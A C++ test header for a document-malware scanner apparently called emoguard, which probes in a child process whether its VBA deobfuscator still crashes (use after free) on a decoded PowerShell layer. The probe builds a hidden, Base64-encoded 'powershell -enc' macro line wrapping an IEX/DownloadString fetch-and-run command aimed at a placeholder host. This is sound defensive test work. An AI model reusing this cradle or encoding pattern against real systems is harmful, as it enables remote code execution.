// Probes for known crashing bugs in the code under test, run in a child process so that the tests
// that depend on them can skip with a reason while the bug is present and run as soon as it is fixed.
#pragma once

#include <sys/wait.h>
#include <unistd.h>

#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <functional>
#include <string>

#include "analyzers/document/vba_scan.hpp"
#include "emoguard/text.hpp"
#include "office_builders.hpp"

namespace emoguard::testing {

// Runs fn in a child process: its exit code when it returned 0 or 3, -1 when it died (a signal, or
// a sanitizer's report and exit), -2 when fork/waitpid failed.
inline int exit_code_in_child(const std::function<int()>& fn) {
  std::fflush(nullptr);
  const pid_t pid = ::fork();
  if (pid < 0) return -2;
  if (pid == 0) std::_Exit(fn());
  int status = 0;
  if (::waitpid(pid, &status, 0) != pid) return -2;
  if (WIFEXITED(status) && (WEXITSTATUS(status) == 0 || WEXITSTATUS(status) == 3)) return WEXITSTATUS(status);
  return -1;
}

// A computed string holding "-enc <Base64>": deobfuscate() decodes it in add_layers(), which
// appends to the vector that its string argument lives in.
inline std::string powershell_layer_code(const std::string& command) {
  const std::string u16 = utf8_to_utf16le(command);
  return "c = \"powershell -w hidden -enc \" & \"" + text::base64_encode(ByteView(std::string_view(u16))) + "\"\nShell c\n";
}

// True while deobfuscate() crashes (use after free) on a decoded PowerShell layer. Probed once.
inline bool deobfuscate_layer_crashes() {
  static const bool crashes = [] {
    const int code = exit_code_in_child([] {
      const std::string cmd = "IEX (New-Object Net.WebClient).DownloadString('http://example.invalid/probe')";
      const auto d = analyzers::document::deobfuscate(powershell_layer_code(cmd), std::chrono::steady_clock::now() + std::chrono::hours(1));
      for (const auto& x : d) {
        if (x.how == "PowerShell -EncodedCommand" && x.value == cmd) return 0;
      }
      return 3;
    });
    return code != 0;
  }();
  return crashes;
}

inline constexpr const char* kLayerBug =
    "regression of a fixed bug: vba_scan.cpp deobfuscate() calls add_layers(out, seen, out[k].value, 0) with a reference into `out`, "
    "and add_layers() push_back()s into `out`: after a reallocation the reference dangles (use after free, SIGSEGV "
    "in Debug, ASan heap-use-after-free) whenever a computed string decodes to a PowerShell/Base64 layer";

}  // namespace emoguard::testing
